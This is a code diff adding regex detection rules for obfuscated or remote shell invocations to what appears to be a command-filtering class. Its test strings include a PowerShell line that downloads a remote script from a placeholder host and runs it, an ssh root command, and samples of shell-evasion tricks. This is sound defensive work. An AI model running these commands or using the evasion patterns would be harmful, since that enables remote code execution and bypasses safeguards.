@@ -66,12 +66,14 @@ final class CommandRules {
               .finds(
                   "(?i:\\b(?:powershell|pwsh)(?:\\.exe)?\\s[^\\n]*-(?:(?:c|command)\\s+[^\\s<&]|e(?:c|nc|ncodedcommand)?\\s+[\"'\\\\]*[a-z0-9+/=]{8})(?:[^\\n|]*https?://[^\\s\"'|]*)?)")
               .finds("\\$(?:SHELL|BASH|\\{(?:SHELL|BASH)\\})\\s+-[a-z]*c\\s+" + QUOTE)
+              .finds("\\bssh\\s+\\S+@\\S+\\s+" + QUOTE + "\\s*(?:ba|z|da)?sh\\s+-[a-z]*c\\s")
               .finds("\\bscript\\s+-[a-z]*c\\s+" + QUOTE)
               .finds("\\bn?vim?\\s+-c\\s+" + QUOTE + "?:!")
               .finds("(?i:\\bcmd(?:\\.exe)?\\s+(?:/[dqsv](?::on)?\\s+)*/[ck]\\s)")
               .finds("(?i:\\bstart-process\\s+[\"'\\\\]*(?:cmd|powershell|pwsh)\\b)")
               .matches(
                   "powershell -c \"irm https://h.example/i.ps1 | iex\"",
+                  "ssh root@h.example 'bash -c id'",
                   "bash -ce 'mount'",
                   "${SHELL} -c \"id\"",
                   "script -qc 'id' /dev/null",
@@ -133,6 +135,7 @@ final class CommandRules {
               .finds("\\$'(?:\\\\{1,2}(?:x[2-7][0-9a-fA-F]|0?[4-7][0-7]|0?1[0-7]{2})){2,}")
               .finds("\\$\\{(?:PATH|HOME|PWD|SHELL|BASH|LS_COLORS|OLDPWD)[^}\\s]{0,3}:[0-9]+:1\\}")
               .finds("/(?:\\?{3}|b\\?n|\\?in|bi\\?|us\\?)/[a-z0-9?/]*\\?[a-z0-9?]*\\s")
+              .finds("\\b(?:exec|eval|system|popen)\\(\\s*[\"'\\\\]{2,4}\\.join\\(\\[")
               .finds("\\$\\(\\s*rev\\s*<<<")
               .finds("\\$\\(\\s*echo\\s+[a-z]{2,12}\\s*\\|\\s*rev\\s*\\)")
               .finds("(?:`echo [a-z]{1,4}`|\\$\\(echo [a-z]{1,4}\\))[a-z]{1,5}\\s")
